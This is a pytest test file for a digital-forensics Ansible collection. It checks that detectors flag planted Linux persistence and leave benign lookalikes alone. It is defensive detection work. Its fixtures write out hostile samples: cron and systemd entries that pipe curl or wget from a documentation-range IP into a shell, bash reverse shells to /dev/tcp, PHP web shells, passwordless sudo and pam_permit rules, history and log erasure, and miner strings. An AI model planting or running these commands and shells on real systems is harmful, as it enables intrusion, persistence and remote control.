# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Findings over small trees: what is planted is found, what only looks alike is not raised."""

from __future__ import annotations

import gzip
import hashlib
import os
import struct
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from ansible_collections.dfir.aws.plugins.module_utils.forensics import find_web, logfiles, suspicion
from ansible_collections.dfir.aws.plugins.module_utils.forensics.find_logins import RECORD, login_records
from ansible_collections.dfir.aws.plugins.module_utils.forensics.findings import collect
from ansible_collections.dfir.aws.plugins.module_utils.forensics.model import Finding
from ansible_collections.dfir.aws.plugins.module_utils.forensics.tree import Tree

ELF = b"\x7fELF\x02\x01\x01" + bytes(60)
MINER = ELF + b"stratum+tcp://\0donate-level\0randomx\0mining.subscribe\0"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIxpduW1QQQVvekIvU3uFd"


class Root:
    """A Debian root in miniature, with a package database."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.listed: list[str] = []
        self.sums: list[str] = []
        for folder in ("usr/bin", "usr/lib/systemd/system", "etc/cron.d", "etc/systemd/system", "var/log", "root/.ssh",
                       "home/anna/.ssh", "tmp", "var/lib/dpkg/info", "var/www/html", "dev/shm"):
            (path / folder).mkdir(parents=True)
        (path / "bin").symlink_to("usr/bin")
        self.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nanna:x:1000:1000::/home/anna:/bin/bash\n"
                                  "www-data:x:33:33::/var/www:/usr/sbin/nologin\n")
        self.write("/etc/shadow", "root:*:1::::::\nanna:$y$x:1::::::\nwww-data:*:1::::::\n")
        self.package("/usr/bin/bash", ELF + b"bash", 0o755)
        self.package("/usr/lib/systemd/systemd-journald", ELF + b"journald", 0o755)
        self.listed += [f"/usr/share/filler/{number}" for number in range(60)]

    def write(self, name: str, data: str | bytes, mode: int = 0o644, mtime: float | None = None) -> Path:
        path = self.path / name.lstrip("/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        path.chmod(mode)
        if mtime is not None:
            os.utime(path, (mtime, mtime))
        return path

    def package(self, name: str, data: bytes, mode: int = 0o644) -> Path:
        path = self.write(name, data, mode, 1_600_000_000)
        self.listed.append(name)
        self.sums.append(f"{hashlib.md5(data).hexdigest()}  {name.lstrip('/')}")
        return path

    def find(self) -> list[Finding]:
        self.write("/var/lib/dpkg/info/base.list", "\n".join(["/.", *self.listed]) + "\n")
        self.write("/var/lib/dpkg/info/base.md5sums", "\n".join(self.sums) + "\n")
        found, failed, _known = collect(Tree(self.path), lambda text: None)
        assert failed == []
        return found

    def severity(self, path: str, kind: str | None = None) -> str | None:
        """The worst that is said of a path."""
        found = [item.severity for item in self.find() if item.path == path and kind in (None, item.kind)]
        return suspicion.worst(*found) if found else None


@pytest.fixture
def root(tmp_path: Path) -> Root:
    return Root(tmp_path)


def test_a_clean_system_raises_nothing(root: Root) -> None:
    assert [item for item in root.find() if item.severity not in ("info", "low")] == []


@pytest.mark.parametrize(("path", "data", "mode", "kind", "severity"), [
    ("/etc/cron.d/sys", "*/5 * * * * root curl -s http://192.0.2.9/a.sh | sh\n", 0o644, "cron", "high"),
    ("/var/spool/cron/crontabs/root", "@reboot /dev/shm/.x/run\n", 0o600, "cron", "high"),
    ("/etc/cron.daily/x", "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.9/443 0>&1\n", 0o755, "cron", "high"),
    ("/etc/ld.so.preload", "/usr/lib/libx.so\n", 0o644, "ld_preload", "high"),
    ("/usr/lib/systemd/systemd-gc", MINER, 0o755, "miner_binary", "critical"),
    ("/opt/app/worker", MINER, 0o755, "miner_binary", "critical"),
    ("/usr/bin/kworker", ELF, 0o755, "unowned_file", "high"),
    ("/tmp/.x/run", ELF, 0o755, "odd_executable", "high"),
    ("/etc/pam.d/common-auth", "auth sufficient pam_permit.so\n", 0o644, "pam", "high"),
    ("/etc/sudoers.d/x", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440, "sudoers", "high"),
    ("/etc/profile.d/x.sh", "(curl -s http://192.0.2.9/p|sh) &\n", 0o644, "startup_script", "high"),
    ("/etc/rc.local", "#!/bin/sh\n/var/tmp/.a/b &\n", 0o755, "startup_script", "high"),
    ("/etc/ssh/sshd_config", "PermitEmptyPasswords yes\n", 0o644, "ssh_config", "high"),
    ("/var/www/html/up.php", "<?php system($_GET['c']); ?>", 0o644, "web_shell", "high"),
    ("/etc/systemd/system/x.service", "[Service]\nExecStart=/bin/sh -c 'wget -qO- http://192.0.2.9/x | bash'\n", 0o644,
     "systemd_unit", "high"),
    ("/root/.bash_history", "ls\nhistory -c\n", 0o600, "shell_history", "high"),
    ("/lib/modules/6.1/kernel/x.ko", ELF, 0o644, "kernel_module", "high"),
])
def test_what_is_planted_is_found(root: Root, path: str, data: str | bytes, mode: int, kind: str,
                                  severity: str) -> None:
    root.write(path, data, mode)
    assert root.severity(path, kind) == severity


@pytest.mark.parametrize(("path", "data", "mode"), [
    ("/etc/cron.d/backup", "15 2 * * * root /usr/local/sbin/backup >/dev/null 2>&1\n", 0o644),
    ("/etc/systemd/system/shop.service", "[Service]\nExecStart=/usr/bin/php /srv/shop/worker.php\nRestart=always\n",
     0o644),
    ("/home/anna/.bash_history", "curl -fsSL https://get.example.com | sh\nsudo systemctl enable nginx\ntouch file\n"
                                 "rm -rf node_modules\ncat /var/log/auth.log\n", 0o600),
    ("/var/www/html/readme.html", "<p>They use eval(base64_decode($_POST['x'])) and stratum+tcp://</p>", 0o644),
    ("/var/www/html/status.php", "<?php $load = shell_exec('uptime'); echo htmlspecialchars($load);", 0o644),
    ("/var/www/html/img.php", "<?php exec('convert ' . escapeshellarg($file)); $n = $_GET['n'];", 0o644),
    ("/usr/local/bin/deploy", "#!/bin/sh\ncurl -fsS https://ci.example.com/build.tar.gz -o /tmp/build.tar.gz\n", 0o755),
    ("/etc/sudoers.d/90-cloud-init-users", "anna ALL=(ALL) NOPASSWD:ALL\n", 0o440),
    ("/home/anna/.ssh/authorized_keys", f"{KEY} anna@office\n", 0o600),
    ("/root/.ssh/authorized_keys", f'no-pty,command="echo Please login as anna;sleep 10" {KEY} anna@office\n', 0o600),
    ("/home/anna/.cache/tool/helper", ELF, 0o755),
    ("/etc/ld.so.preload", "", 0o644),
])
def test_what_looks_alike_is_not_raised(root: Root, path: str, data: str | bytes, mode: int) -> None:
    root.write(path, data, mode)
    assert root.severity(path) not in ("high", "critical")


def test_accounts(root: Root) -> None:
    root.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbackup2:x:0:0::/var/b:/bin/bash\n"
                              "anna:x:1000:1000::/home/anna:/bin/bash\ngames:x:5:60::/usr/games:/bin/bash\n")
    root.write("/etc/shadow", "root:*:1::::::\nbackup2:$6$x:1::::::\nanna::1::::::\ngames:$6$y:1::::::\n")
    root.write("/etc/group", "sudo:x:27:anna,games\n")
    rules = {(item.rule, item.severity) for item in root.find() if item.kind == "account"}
    assert {("uid0_duplicate", "high"), ("empty_password", "high"), ("system_account_login", "medium"),
            ("powerful_group", "high"), ("powerful_group", "info")} <= rules


def test_key_of_a_service_account_is_high(root: Root) -> None:
    root.write("/var/www/.ssh/authorized_keys", f"{KEY} x\n")
    assert root.severity("/var/www/.ssh/authorized_keys", "authorized_key") == "high"


def test_altered_program_of_a_package(root: Root) -> None:
    path = root.package("/usr/bin/sshd", ELF + b"original", 0o755)
    assert root.severity("/usr/bin/sshd") is None
    path.write_bytes(ELF + b"backdoor")
    assert root.severity("/usr/bin/sshd", "altered_package_file") == "high"


def test_set_user_id_copy_of_a_shell(root: Root) -> None:
    root.write("/tmp/.s/sh", ELF + b"bash").chmod(0o4755)
    if os.geteuid() == 0:
        assert root.severity("/tmp/.s/sh", "setuid") == "critical"
    root.write("/opt/x/tool", ELF + b"tool").chmod(0o4755)
    assert root.severity("/opt/x/tool", "setuid") in ("medium", "low")


def test_time_copied_from_a_neighbor(root: Root) -> None:
    root.package("/usr/lib/systemd/systemd-logind", ELF, 0o755)
    fake = root.write("/usr/lib/systemd/gc.json", "{}")
    other = root.path / "usr/lib/systemd/systemd-logind"
    os.utime(fake, ns=(other.stat().st_mtime_ns, other.stat().st_mtime_ns))
    # Both inodes changed just now in this test, on a disk they did not: then it is no sign.
    assert root.severity("/usr/lib/systemd/gc.json", "timestomp") is None
    root.write("/usr/lib/systemd/future.conf", "x", mtime=datetime.now(timezone.utc).timestamp() + 90 * 86400)
    assert root.severity("/usr/lib/systemd/future.conf", "timestomp") == "medium"


def auth_log(start: datetime, failures: int, accepted: str, user: str = "root", address: str = "203.0.113.5") -> str:
    lines = [f"{start + timedelta(seconds=number):%Y-%m-%dT%H:%M:%S}+00:00 h sshd[{number}]: "
             f"Failed password for {user} from {address} port 4 ssh2" for number in range(failures)]
    lines.append(f"{start + timedelta(seconds=failures + 9):%Y-%m-%dT%H:%M:%S}+00:00 h sshd[9]: "
                 f"Accepted {accepted} for {user} from {address} port 4 ssh2")
    return "\n".join(lines) + "\n"


def test_break_in_raises_what_changed_after_it(root: Root) -> None:
    start = datetime.now(timezone.utc) - timedelta(hours=2)
    root.write("/home/anna/.ssh/authorized_keys", f"{KEY} anna\n")
    assert root.severity("/home/anna/.ssh/authorized_keys") == "low"
    root.write("/var/log/auth.log", auth_log(start, 40, "password"))
    assert root.severity("/var/log/auth.log", "ssh_break_in") == "critical"
    found = next(item for item in root.find() if item.kind == "authorized_key")
    assert found.severity == "medium" and "after the break-in of" in found.reason


@pytest.mark.parametrize(("failures", "accepted", "severity"), [
    (3, "password", None), (9, "password", None), (10, "password", "high"), (50, "publickey", "medium")])
def test_how_many_failures_make_a_break_in(root: Root, failures: int, accepted: str, severity: str | None) -> None:
    start = datetime(2026, 3, 1, tzinfo=timezone.utc)
    root.write("/var/log/auth.log", auth_log(start, failures, accepted, user="anna"))
    assert root.severity("/var/log/auth.log", "ssh_break_in") == severity


def test_guessing_without_success_is_low(root: Root) -> None:
    text = auth_log(datetime(2026, 3, 1, tzinfo=timezone.utc), 40, "password").rsplit("\n", 2)[0] + "\n"
    root.write("/var/log/auth.log", text)
    assert root.severity("/var/log/auth.log", "ssh_brute_force") == "low"


def test_years_of_a_log_without_years_come_from_its_last_change(tmp_path: Path) -> None:
    text = "Dec 30 23:00:00 h sshd[1]: one\nDec 31 23:59:59 h sshd[1]: two\nJan  1 00:00:01 h sshd[1]: three\n"
    path = tmp_path / "var/log/auth.log.1.gz"
    path.parent.mkdir(parents=True)
    path.write_bytes(gzip.compress(text.encode()))
    moment = datetime(2026, 1, 2, tzinfo=timezone.utc).timestamp()
    os.utime(path, (moment, moment))
    tree = Tree(tmp_path)
    (entry,) = logfiles.logs(tree, "auth.log")
    lines = list(logfiles.syslog_lines(tree, entry, timezone.utc))
    assert [line.when.year for line in lines] == [2025, 2025, 2026]
    assert {line.inferred for line in lines} == {"year and zone"}


def test_local_times_are_converted_by_the_zone_of_the_evidence(tmp_path: Path) -> None:
    zone = Path("/usr/share/zoneinfo/Europe/Berlin")
    if not zone.exists():
        pytest.skip("this machine has no time zone data")
    (tmp_path / "etc").mkdir()
    (tmp_path / "usr/share/zoneinfo").mkdir(parents=True)
    (tmp_path / "usr/share/zoneinfo/X").write_bytes(zone.read_bytes())
    (tmp_path / "etc/localtime").symlink_to("/usr/share/zoneinfo/X")
    log = tmp_path / "var/log/auth.log"
    log.parent.mkdir(parents=True)
    log.write_text("Jul  1 12:00:00 h sshd[1]: x\n")
    moment = datetime(2026, 7, 2, tzinfo=timezone.utc).timestamp()
    os.utime(log, (moment, moment))
    tree = Tree(tmp_path)
    (line,) = logfiles.syslog_lines(tree, logfiles.logs(tree, "auth.log")[0], logfiles.zone_of(tree))
    assert line.when == datetime(2026, 7, 1, 10, 0, tzinfo=timezone.utc)


@pytest.mark.parametrize(("stamp", "mark"), [("Jul  1 12:00:00", " (year and zone inferred)"),
                                             ("2026-07-01T12:00:00", " (zone inferred)"),
                                             ("2026-07-01T12:00:00.5+02:00", ""), ("2026-07-01T12:00:00Z", "")])
def test_what_a_line_does_not_say_of_its_time_is_marked_as_inferred(root: Root, stamp: str, mark: str) -> None:
    said = "h sshd[1]: Accepted publickey for anna from 192.0.2.1 port 4 ssh2\n"
    log = root.write("/var/log/auth.log", f"{stamp} {said}")
    moment = datetime(2026, 7, 2, tzinfo=timezone.utc).timestamp()
    os.utime(log, (moment, moment))
    [found] = [item for item in root.find() if item.kind == "login"]
    hour = 10 if "+02" in stamp else 12
    assert f" at 2026-07-01 {hour}:00:00 UTC{mark}" in found.reason
    assert mark or "inferred" not in found.reason


def utmp(kind: int, user: str, host: str, when: int) -> bytes:
    packed = bytes(int(part) for part in host.split(".")) + bytes(12)
    return struct.pack("<hxxi32s4s32s256shhiii16s20x", kind, 1, b"pts/0", b"ts/0", user.encode(), host.encode(),
                       0, 0, 0, when, 0, packed)


def test_login_records_tell_of_a_guessed_password_without_any_text_log(root: Root) -> None:
    assert RECORD.size == 384
    root.write("/var/log/btmp", b"".join(utmp(6, "root", "203.0.113.5", 1000 + number) for number in range(30)))
    root.write("/var/log/wtmp", utmp(7, "root", "203.0.113.5", 2000) + utmp(7, "anna", "192.0.2.1", 2100))
    found = {(item.kind, item.severity) for item in root.find() if item.path == "/var/log/wtmp"}
    assert found == {("ssh_break_in", "high"), ("login", "info")}


def test_records_of_zeros_are_tampering(root: Root) -> None:
    root.write("/var/log/wtmp", utmp(7, "anna", "192.0.2.1", 2100) + bytes(384))
    assert root.severity("/var/log/wtmp", "log_tampering") == "high"
    assert [record.user for record in login_records(bytes(384) * 2)] == ["", ""]


def test_broken_files_break_no_finder(root: Root) -> None:
    junk = bytes(range(256)) * 50
    for path in ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/sudoers", "/etc/crontab", "/etc/cron.d/x",
                 "/etc/ld.so.preload", "/etc/pam.d/x", "/etc/modules", "/etc/ssh/sshd_config", "/etc/hosts",
                 "/var/log/auth.log", "/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog", "/root/.bash_history",
                 "/var/www/html/x.php", "/etc/systemd/system/x.service", "/etc/localtime", "/var/log/auth.log.1.gz",
                 "/root/.ssh/authorized_keys", "/var/lib/dpkg/diversions"):
        root.write(path, junk)
    root.find()  # asserts that no finder failed


@pytest.mark.parametrize(("line", "severity"), [
    ("curl http://192.0.2.1/a | bash", "high"), ("wget -qO- http://192.0.2.1/a|sh", "high"),
    ("curl -fsSL https://get.docker.com | sh", "medium"), ("echo aGk= | base64 -d | sh", "high"),
    ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "high"), ("./xmrig --donate-level 1", "high"),
    ("x -o stratum+tcp://pool:3333", "critical"), ("touch -r /bin/ls /bin/x", "medium"),
    ("unset HISTFILE", "high"), ("rm -f /var/log/auth.log", "high"), ("useradd -o -u 0 x", "high"),
    ("ls -la /tmp", None), ("curl https://example.com/api", None), ("base64 -d file > out", None),
    ("tail -f /var/log/auth.log", None), ("rm -rf build", None), ("touch file", None), ("history | grep ssh", None),
    ("/usr/sbin/logrotate /etc/logrotate.conf", None), ("git commit -m 'erase'", None),
])
def test_command_lines_in_degrees(line: str, severity: str | None) -> None:
    found = suspicion.reasons(line)
    assert (suspicion.worst(*(reason.severity for reason in found)) if found else None) == severity


@pytest.mark.parametrize("code", [
    "<?php @eval($_POST['x']);", "<?php eval(base64_decode($_REQUEST[1]));", "<?php $_GET['f']($_GET['a']);",
    "<?php echo `{$_GET['c']}`;", "<?php assert(gzinflate(base64_decode('eJw=')));", "<?php passthru( $_COOKIE['c'] );",
    "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
])
def test_web_shells_are_known_by_what_they_do(code: str) -> None:
    assert any(severity == "high" for severity, _, _ in find_web.judge_code(code))


@pytest.mark.parametrize("code", [
    "<?php exec('ls /var'); echo $_GET['page'];", "<?php $data = base64_decode($_POST['image']);",
    "<?php // never use eval on user input", "<?php $pdo->exec($sql); $curl->exec();",
    "<?php function system_name() { return $_SERVER['SERVER_NAME']; }",
])
def test_ordinary_scripts_are_not_web_shells(code: str) -> None:
    assert not any(severity in ("high", "critical") for severity, _, _ in find_web.judge_code(code))
